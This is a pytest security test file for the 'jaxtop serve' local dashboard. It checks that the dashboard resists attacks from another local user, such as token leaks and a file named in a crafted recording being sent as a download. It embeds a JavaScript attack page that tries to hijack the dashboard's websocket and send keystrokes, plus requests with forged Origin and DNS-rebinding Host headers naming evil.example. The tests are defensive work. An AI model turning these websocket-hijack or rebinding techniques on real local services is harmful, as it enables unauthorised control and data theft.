"""``jaxtop serve`` against the attacks of another local user.

Loopback is shared by every user of the machine, and a browser hands what it
keeps for 127.0.0.1 to every port of it. Each test here is one attack:

- a page served on another 127.0.0.1 port, opened in the victim's Chromium
  after the victim opened the dashboard, tries to open the dashboard's
  websocket (through a cookie, and with the token itself) and to type keys;
- raw requests with a foreign ``Origin``, none, or a rebound ``Host``;
- a recording whose ``reply`` record names a private file as a memory
  profile, served to a real Chromium that accepts downloads;
- the token looked for in the process list and in everything the server
  prints;
- a port that is already taken.

The attacker's page is served by the test itself, in one user: the browser
does not care which user runs the server on the other port.
"""

from __future__ import annotations

import asyncio
import json
import logging
import os
import re
import socket
import stat
import subprocess
import sys
import threading
import time
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import SimpleNamespace

import pytest

from conftest import PY
from jaxtop.dashboard.web import WebDeliveries
from jaxtop.dashboard.web_guard import RedactingFormatter, TokenError, new_token, read_token_file
from test_serve import (DevTools, browser, chromium_or_skip, first_page, free_port, serving, settle,
                        write_recording)

SECRET = "the victim's private words 7f3a9c"


def ws_url_of(page_url: str) -> tuple[str, list[str]]:
    """The websocket URL the dashboard's page would use, and the cookies the page load set."""
    with urllib.request.urlopen(page_url, timeout=10) as response:
        html = response.read().decode()
        cookies = response.headers.get_all("Set-Cookie") or []
    return re.search(r'data-session-websocket-url="([^"]+)"', html).group(1), cookies


# -- the dashboard's downloads ------------------------------------------------------------------

class FakeApp:
    is_web = True

    def __init__(self) -> None:
        self.sent: list[tuple[str, bytes]] = []

    def deliver_binary(self, path_or_file, *, save_filename=None, **_):
        if isinstance(path_or_file, (str, os.PathLike)):
            with open(path_or_file, "rb") as f:
                data = f.read()
        else:
            with path_or_file:
                data = path_or_file.read()
        self.sent.append((save_filename, data))


def snapshot_naming(path: str):
    profile = SimpleNamespace(path=path)
    return SimpleNamespace(processes=[SimpleNamespace(pid=4242, last_profile=profile)])


def test_a_reply_naming_a_file_does_not_send_it(tmp_path):
    """A memory-profile reply (from a recording, or a program asked nothing)
    names ~/secret.txt: the browser gets nothing, asked or not."""
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    secret.chmod(0o600)
    app = FakeApp()
    web = WebDeliveries(app)
    try:
        web.on_snapshot(snapshot_naming(str(secret)))  # a recording's reply: nobody asked
        assert app.sent == []
        web.profile_requested()  # the user pressed s
        web.on_snapshot(snapshot_naming(str(secret)))  # the reply names a file outside the session's directory
        web.deliver([str(secret)])  # nor does w send what it did not write
        assert app.sent == []
        # A link planted in the session's own directory is not followed.
        link = os.path.join(web.session_dir(), "jaxtop-memprof-4242-20260101-000000.prof")
        os.symlink(secret, link)
        web.on_snapshot(snapshot_naming(link))
        web.deliver([link])
        assert app.sent == []
        # What the dashboard asked for, written in its directory, goes once.
        mine = os.path.join(web.session_dir(), "jaxtop-memprof-4242-20260101-000001.prof")
        with open(mine, "wb") as f:
            f.write(b"profile bytes")
        web.on_snapshot(snapshot_naming(mine))
        web.on_snapshot(snapshot_naming(mine))
        assert app.sent == [("jaxtop-memprof-4242-20260101-000001.prof", b"profile bytes")]
        # Nothing more was asked for: a later reply, even one in the directory, is not sent.
        later = os.path.join(web.session_dir(), "jaxtop-memprof-4242-20260101-000002.prof")
        with open(later, "wb") as f:
            f.write(b"more")
        web.on_snapshot(snapshot_naming(later))
        assert len(app.sent) == 1
        session = os.path.join(web.session_dir(), "jaxtop-4242.jsonl")
        with open(session, "w") as f:
            f.write("{}\n")
        web.deliver([session])
        assert app.sent[-1] == ("jaxtop-4242.jsonl", b"{}\n")
        assert stat.S_IMODE(os.stat(web.session_dir()).st_mode) == 0o700
    finally:
        web.close()


def test_s_in_a_browser_asks_for_the_profile_in_the_session_directory():
    """The profile is written where the browser's downloads are taken from."""
    app = FakeApp()
    web = WebDeliveries(app)
    try:
        assert web.profile_args() == {"directory": web.session_dir()}
        app.is_web = False
        assert WebDeliveries(app).profile_args() == {}  # in a terminal: where the agent is told to
    finally:
        web.close()


def test_a_logged_error_never_shows_the_token():
    """aiohttp and textual-serve name the request's path in errors: the token is blanked."""
    token = new_token()
    try:
        raise RuntimeError(f"no handler for /{token}/ws")
    except RuntimeError:
        record = logging.LogRecord("aiohttp.server", logging.ERROR, __file__, 1, "Error handling %s",
                                   (f"GET /{token}/static/",), sys.exc_info())
    text = RedactingFormatter(token).format(record)
    assert token not in text and text.count("<token>") == 2 and "Traceback" in text


def test_a_token_file_must_be_private_and_hold_a_token(tmp_path):
    path = tmp_path / "token"
    path.write_text("Kq7_private-token-0123456789abcdef\nrest\n")
    path.chmod(0o600)
    assert read_token_file(str(path)) == "Kq7_private-token-0123456789abcdef"
    link = tmp_path / "link"
    link.symlink_to(path)
    for bad, why in ((link, "cannot read"), (tmp_path / "missing", "cannot read"), (tmp_path, "not a regular")):
        with pytest.raises(TokenError, match=why):
            read_token_file(str(bad))
    path.chmod(0o640)
    with pytest.raises(TokenError, match="chmod 600"):
        read_token_file(str(path))
    path.chmod(0o600)
    for content in ("short\n", "has a space in it, 0123456789\n", "\n"):
        path.write_text(content)
        with pytest.raises(TokenError, match="is not a token"):
            read_token_file(str(path))


# -- the server -----------------------------------------------------------------------------------

@pytest.mark.slow
def test_foreign_origins_and_hosts_are_refused(tmp_path, child_env):
    aiohttp = pytest.importorskip("aiohttp", reason="textual-serve (and aiohttp) not installed")
    recording = tmp_path / "run.jsonl"
    write_recording(recording, samples=30)
    port, other = free_port(), free_port()
    own = f"http://127.0.0.1:{port}"
    with serving(recording, port, child_env, tmp_path) as served:
        url = served.url()
        ws_url, cookies = ws_url_of(url)

        async def probe():
            results = {"cookies set": cookies}
            async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
                async with http.get(url) as page:  # what a browser would hold after opening the URL
                    results["frame"] = (page.headers.get("X-Frame-Options"),
                                        page.headers.get("Content-Security-Policy"))

                async def upgrade(**headers) -> int:
                    origin = headers.pop("origin", None)
                    try:
                        async with http.ws_connect(ws_url + "?width=80&height=24", origin=origin,
                                                   headers=headers) as ws:
                            await ws.close()
                            return 101
                    except aiohttp.WSServerHandshakeError as exc:
                        return exc.status

                async def get(target: str, **headers) -> int:
                    async with http.get(target, headers=headers, allow_redirects=False) as response:
                        return response.status

                results["websocket from another port"] = await upgrade(origin=f"http://127.0.0.1:{other}")
                results["websocket from localhost"] = await upgrade(origin=f"http://localhost:{port}")
                results["websocket from a null origin"] = await upgrade(origin="null")
                results["websocket without Origin"] = await upgrade()
                results["websocket, DNS rebinding"] = await upgrade(origin=f"http://evil.example:{port}",
                                                                      Host=f"evil.example:{port}")
                results["page, another origin"] = await get(url, Origin=f"http://127.0.0.1:{other}")
                results["page, DNS rebinding"] = await get(url, Host=f"evil.example:{port}")
                results["download fetched by another site"] = await get(f"{own}/download/0123abcd",
                                                                        **{"Sec-Fetch-Site": "same-site"})
                results["page, its own origin"] = await get(url, Origin=own)
                results["websocket from its own page"] = await upgrade(origin=own)
            return results

        results = asyncio.run(probe())
    assert results == {
        "cookies set": [],  # nothing a browser would carry to another port
        "frame": ("DENY", "frame-ancestors 'none'"),
        "websocket from another port": 403,
        "websocket from localhost": 403,  # only the origin printed
        "websocket from a null origin": 403,
        "websocket without Origin": 403,
        "websocket, DNS rebinding": 421,
        "page, another origin": 403,
        "page, DNS rebinding": 421,
        "download fetched by another site": 403,
        "page, its own origin": 200,
        "websocket from its own page": 101,
    }


ATTACK_PAGE = """<!doctype html><title>cat pictures</title><script>
const targets = %s;
function once(url) {
  return new Promise(resolve => {
    const r = {url: url, opened: false, bytes: 0, messages: 0};
    let ws;
    try { ws = new WebSocket(url); } catch (e) { r.error = String(e); resolve(r); return; }
    ws.binaryType = "arraybuffer";
    ws.onopen = () => {
      r.opened = true;
      ws.send(JSON.stringify(["resize", {width: 120, height: 40}]));
      for (const key of "ow") ws.send(JSON.stringify(["stdin", key]));
    };
    ws.onmessage = e => { r.messages += 1; r.bytes += e.data.byteLength !== undefined ? e.data.byteLength : e.data.length; };
    ws.onclose = () => resolve(r);
    setTimeout(() => { try { ws.close(); } catch (e) {} resolve(r); }, 4000);
  });
}
async function attempt(url) {
  // The victim's own session ends a moment after the tab left the dashboard:
  // retry while the server answers "busy".
  const deadline = Date.now() + 10000;
  let r;
  do {
    r = await once(url);
    if (r.opened) break;
    await new Promise(res => setTimeout(res, 500));
  } while (Date.now() < deadline);
  return r;
}
(async () => {
  const results = [];
  for (const url of targets) results.push(await attempt(url));
  await fetch("/report", {method: "POST", body: JSON.stringify(results)});
})();
</script>"""


class AttackerSite:
    """Another user's web server on another 127.0.0.1 port: serves the attack
    page, keeps the Cookie headers the victim's browser sends it, and the
    page's report."""

    def __init__(self, targets: list[str]) -> None:
        self.cookies: list[str] = []
        self.report: list[dict] | None = None
        site = self
        page = (ATTACK_PAGE % json.dumps(targets)).encode()

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args) -> None:
                pass

            def do_GET(self) -> None:
                site.cookies.append(self.headers.get("Cookie") or "")
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(page)))
                self.end_headers()
                self.wfile.write(page)

            def do_POST(self) -> None:
                site.cookies.append(self.headers.get("Cookie") or "")
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                site.report = json.loads(body)
                self.send_response(204)
                self.end_headers()

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def dashboards_of(server_pid: int) -> set[int]:
    """The dashboard processes the server runs now (one per websocket)."""
    import psutil

    try:
        children = psutil.Process(server_pid).children(recursive=True)
    except psutil.NoSuchProcess:
        return set()
    found = set()
    for child in children:
        try:
            if "replay" in child.cmdline():
                found.add(child.pid)
        except psutil.NoSuchProcess:
            pass
    return found


@pytest.mark.slow
def test_a_page_on_another_port_cannot_drive_the_dashboard(tmp_path, child_env):
    """The victim opens the dashboard, then a page another user serves on
    127.0.0.1:OTHER: its websockets to the dashboard (with whatever the
    browser holds for 127.0.0.1, and even with the token) are refused, no
    dashboard process starts for it, and no key reaches one."""
    chromium = chromium_or_skip()
    aiohttp = pytest.importorskip("aiohttp", reason="textual-serve (and aiohttp) not installed")
    pytest.importorskip("psutil")
    recording = tmp_path / "run.jsonl"
    write_recording(recording)
    port, devtools_port = free_port(), free_port()
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    with serving(recording, port, child_env, tmp_path) as served:
        url = served.url()
        ws_url, _ = ws_url_of(url)
        token = url.rstrip("/").rsplit("/", 1)[-1].replace("?token=", "")
        # The attacker's guesses: the websocket a cookie would open, and the
        # page's own websocket URL, as if the token had leaked.
        targets = [f"ws://127.0.0.1:{port}/ws?width=80&height=24", ws_url + "?width=80&height=24"]
        site = AttackerSite(targets)
        seen_during_attack: set[int] = set()
        try:
            with browser(chromium, tmp_path / "profile", devtools_port):

                async def drive():
                    async with aiohttp.ClientSession() as http:
                        page = await first_page(http, devtools_port)
                        async with http.ws_connect(page["webSocketDebuggerUrl"], max_msg_size=0) as ws:
                            tools = DevTools(ws)
                            await tools.call("Page.enable")
                            await tools.call("Page.setDownloadBehavior", behavior="allow",
                                             downloadPath=str(downloads))
                            await tools.call("Page.navigate", url=url)
                            await asyncio.sleep(3.0)
                            drawn = await settle(tools, 20.0)
                            assert len(drawn) > 20_000 and dashboards_of(served.proc.pid), "the dashboard never ran"
                            await tools.call("Page.navigate", url=f"http://127.0.0.1:{site.port}/")
                            # The victim's dashboard ends once its tab left; anything after is the attacker's.
                            deadline = time.monotonic() + 20
                            while dashboards_of(served.proc.pid) and time.monotonic() < deadline:
                                await asyncio.sleep(0.1)
                            deadline = time.monotonic() + 60
                            while site.report is None and time.monotonic() < deadline:
                                seen_during_attack.update(dashboards_of(served.proc.pid))
                                await asyncio.sleep(0.1)

                asyncio.run(drive())
        finally:
            site.close()
        output = served.stop()
    assert site.report is not None, "the attack page never reported"
    found = {
        "the token sent to the other port's server": any(token in cookie for cookie in site.cookies),
        "websockets opened": [attempt["opened"] for attempt in site.report],
        "bytes the page read": [attempt["bytes"] for attempt in site.report],
        "dashboards run for the page (its keys)": len(seen_during_attack),
        "downloads": sorted(p.name for p in downloads.iterdir()),
    }
    assert found == {
        "the token sent to the other port's server": False,
        "websockets opened": [False, False],
        "bytes the page read": [0, 0],
        "dashboards run for the page (its keys)": 0,
        "downloads": [],
    }
    assert "Traceback" not in output


@pytest.mark.slow
def test_a_recording_cannot_send_a_file_to_the_browser(tmp_path, child_env):
    """A recording's reply names the victim's mode-600 ~/secret.txt as a
    memory profile: served to a browser that accepts every download, the
    file never leaves the machine; ``w`` still delivers the session."""
    chromium = chromium_or_skip()
    aiohttp = pytest.importorskip("aiohttp", reason="textual-serve (and aiohttp) not installed")
    home = tmp_path / "home"
    home.mkdir()
    secret = home / "secret.txt"
    secret.write_text(SECRET)
    secret.chmod(0o600)
    reply = {"type": "reply", "t": 1002.05, "id": 7, "ok": True,
             "result": {"path": str(secret), "total_bytes": 4096, "t": 1002.05, "seconds": 0.01,
                        "top_sites": [{"site": "train.py:12 step", "bytes": 4096, "allocations": 1}]}}
    recording = tmp_path / "run.jsonl"
    write_recording(recording, extra=[reply])
    port, devtools_port = free_port(), free_port()
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    with serving(recording, port, child_env, tmp_path) as served:
        url = served.url()
        with browser(chromium, tmp_path / "profile", devtools_port):

            async def drive():
                async with aiohttp.ClientSession() as http:
                    page = await first_page(http, devtools_port)
                    async with http.ws_connect(page["webSocketDebuggerUrl"], max_msg_size=0) as ws:
                        tools = DevTools(ws)
                        await tools.call("Page.enable")
                        await tools.call("Page.setDownloadBehavior", behavior="allow", downloadPath=str(downloads))
                        await tools.call("Page.navigate", url=url)
                        await asyncio.sleep(3.0)
                        await tools.click(640, 400)
                        await settle(tools, 20.0)
                        await tools.key("p")  # the last profile: the recording's, shown, not sent
                        shown = await settle(tools, 8.0)
                        (tmp_path / "profile-screen.png").write_bytes(shown)
                        await tools.key("s")  # a replay has no agent to ask
                        deadline = time.monotonic() + 12
                        while time.monotonic() < deadline and not list(downloads.iterdir()):
                            await asyncio.sleep(0.3)
                        unasked = sorted(p.name for p in downloads.iterdir())
                        for kind in ("keyDown", "keyUp"):  # escape: back from the profile screen
                            await tools.call("Input.dispatchKeyEvent", type=kind, key="Escape", code="Escape",
                                             windowsVirtualKeyCode=27)
                        (tmp_path / "after-escape.png").write_bytes(await settle(tools, 8.0))
                        # What the dashboard writes itself still goes. On a loaded
                        # machine a key can land before the screen takes keys again:
                        # asked once more (each ``w`` writes a whole session).
                        for _ in range(2):
                            await tools.key("w")
                            deadline = time.monotonic() + 30
                            while time.monotonic() < deadline and not list(downloads.glob("*.jsonl")):
                                await asyncio.sleep(0.3)
                            if list(downloads.glob("*.jsonl")):
                                break
                        (tmp_path / "after-w.png").write_bytes(await settle(tools, 4.0))  # kept for a failure
                        await asyncio.sleep(2.0)
                        return unasked

            unasked = asyncio.run(drive())
    assert unasked == [], "a file named by the recording was sent to the browser"
    names = sorted(p.name for p in downloads.iterdir())
    assert names and all(name.endswith(".jsonl") for name in names), names
    for path in downloads.iterdir():
        assert SECRET not in path.read_text(errors="replace")


# -- the token --------------------------------------------------------------------------------------

@pytest.mark.slow
def test_the_token_is_printed_once_and_never_logged(tmp_path, child_env):
    """Requests that succeed, fail and break the websocket: the token is in
    the one URL line and nowhere else in what the server prints."""
    aiohttp = pytest.importorskip("aiohttp", reason="textual-serve (and aiohttp) not installed")
    recording = tmp_path / "run.jsonl"
    write_recording(recording, samples=30)
    port = free_port()
    with serving(recording, port, child_env, tmp_path) as served:
        url = served.url()
        token = re.search(r"[A-Za-z0-9_-]{16,}", url.split(f":{port}", 1)[1]).group(0)
        ws_url, _ = ws_url_of(url)

        async def traffic():
            async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
                for target in (url, url + "static/js/textual.js", url + "nothing-here", url + "static/"):
                    async with http.get(target) as response:
                        await response.read()
                async with http.ws_connect(ws_url + "?width=80&height=24",
                                           origin=f"http://127.0.0.1:{port}") as ws:
                    await ws.send_str("this is not JSON")  # textual-serve logs the exception it raises
                    await ws.receive(timeout=20)
                await asyncio.sleep(2.0)

        asyncio.run(traffic())
        output = served.stop()
    lines = [line for line in output.splitlines() if token in line]
    assert lines == [f"jaxtop serve: open {url}  (Ctrl+C stops it)"], output[-3000:]
    # textual-serve's banner (its escaped command, an address without the token) is not printed.
    assert "Serving" not in output and "Press Ctrl+C" not in output, output[-3000:]


@pytest.mark.slow
def test_the_token_comes_from_a_private_file_not_the_command_line(tmp_path, child_env):
    pytest.importorskip("textual_serve")
    recording = tmp_path / "run.jsonl"
    write_recording(recording, samples=30)
    token = "Kq7_private-token-0123456789abcdef"
    token_file = tmp_path / "token"
    token_file.write_text(token + "\n")
    token_file.chmod(0o600)
    port = free_port()
    with serving(recording, port, child_env, tmp_path, "--token-file", str(token_file)) as served:
        assert served.url() == f"http://127.0.0.1:{port}/{token}/"
        urllib.request.urlopen(served.url(), timeout=10).close()
        for name in ("cmdline", "environ"):  # what /proc shows of the server
            with open(f"/proc/{served.proc.pid}/{name}", "rb") as f:
                assert token.encode() not in f.read(), name
    # A file others can read, or the token given on the command line, is refused with one line.
    token_file.chmod(0o644)
    readable = subprocess.run([PY, "-m", "jaxtop", "serve", "replay", str(recording), "--port", str(free_port()),
                               "--token-file", str(token_file)], env=child_env, capture_output=True, text=True,
                              timeout=60, cwd=tmp_path)
    assert readable.returncode == 2 and "chmod 600" in readable.stderr and readable.stdout == ""
    assert len(readable.stderr.strip().splitlines()) == 1
    given = subprocess.run([PY, "-m", "jaxtop", "serve", "replay", str(recording), "--port", str(free_port()),
                            "--token", token], env=child_env, capture_output=True, text=True, timeout=60,
                           cwd=tmp_path)
    assert given.returncode == 2 and "http://" not in given.stdout


@pytest.mark.slow
def test_a_busy_port_is_one_line_and_no_token(tmp_path, child_env):
    pytest.importorskip("textual_serve")
    recording = tmp_path / "run.jsonl"
    write_recording(recording, samples=30)
    with socket.socket() as squatter:  # another user's server holds the port
        squatter.bind(("127.0.0.1", 0))
        squatter.listen(1)
        port = squatter.getsockname()[1]
        res = subprocess.run([PY, "-m", "jaxtop", "serve", "replay", str(recording), "--port", str(port)],
                             env=child_env, capture_output=True, text=True, timeout=60, cwd=tmp_path)
    assert res.returncode == 1
    assert "http://" not in res.stdout + res.stderr, "the token was printed for a server that never ran"
    assert "Traceback" not in res.stderr
    assert res.stderr.strip().splitlines() == [
        f"jaxtop serve: cannot listen on 127.0.0.1:{port}: Address already in use; another server has the port: "
        "choose another with --port"]
